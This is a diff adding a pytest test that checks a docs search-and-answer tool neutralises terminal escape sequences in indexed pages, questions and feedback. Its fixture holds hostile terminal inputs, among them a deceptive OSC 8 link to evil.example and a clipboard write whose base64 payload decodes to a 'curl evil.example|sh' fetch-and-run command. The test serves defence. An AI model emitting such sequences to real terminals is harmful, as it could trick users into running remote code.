@@ -193,3 +193,40 @@ def test_ctrl_c_while_the_command_is_still_importing_is_the_one_line_stop(guide,
     assert proc.returncode == 130 and "Traceback" not in err, err
     assert err.strip() == ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before stays; "
                            "run the command again to finish")
+
+
+def test_control_characters_are_shown_not_obeyed(tmp_path):
+    """A page's raw ESC sequences (a screen clear, an OSC 8 link showing one URL and opening another, an
+    OSC 52 clipboard write) went into the index and through `docs-rag search`/`ask` to the terminal, and a
+    question anyone sent to /ask came back through `docs-rag feedback list` the same way. Documents lose
+    them at parse time; what the command prints shows any that is left (`^[`), never obeys it."""
+    from dagster import DagsterInstance
+
+    from docs_rag_pipeline import ask
+    from docs_rag_pipeline.config import load_config
+    from docs_rag_pipeline.feedback import record_feedback
+
+    from .dagster_helpers import materialize_source
+
+    esc, bel = "\x1b", "\x07"
+    write_docs(tmp_path / "docs", {**GUIDE, "terminal.md": (
+        f"# Flux{esc}[2J{esc}[H capacitor\n\nThe flux capacitor needs {esc}[31m1.21 gigawatts{esc}[0m; see "
+        f"{esc}]8;;https://evil.example/{bel}the cache docs{esc}]8;;{bel} and "
+        f"{esc}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g={bel}restart the flux capacitor.\n")})
+    cfg = write_config(tmp_path)
+    with DagsterInstance.ephemeral() as instance:
+        materialize_source(cfg, "guide", instance)
+    hits = json.loads(_run(["search", "flux capacitor gigawatts", "--json"], cfg).stdout)
+    assert hits[0]["title"] == "Flux capacitor" and "needs 1.21 gigawatts; see the cache docs and restart" in hits[0]["text"]
+    for args in (["search", "flux capacitor gigawatts"], ["ask", "How many gigawatts does the flux capacitor need?"]):
+        out = _run(args, cfg)
+        assert out.returncode == 0 and "gigawatts" in out.stdout, out.stderr
+        assert esc not in out.stdout + out.stderr and bel not in out.stdout + out.stderr
+
+    question = f"How many gigawatts{esc}]0;pwned{bel}{esc}[2J does the flux capacitor need?"
+    answer = ask(question, config=str(cfg))
+    record_feedback(load_config(cfg), answer.trace_id, "down", f"wrong{esc}[8m hidden")
+    listed = _run(["feedback", "list"], cfg)
+    assert listed.returncode == 0, listed.stderr
+    assert "gigawatts^[]0;pwned^G^[[2J does" in listed.stdout and "wrong^[[8m hidden" in listed.stdout
+    assert esc not in listed.stdout and bel not in listed.stdout
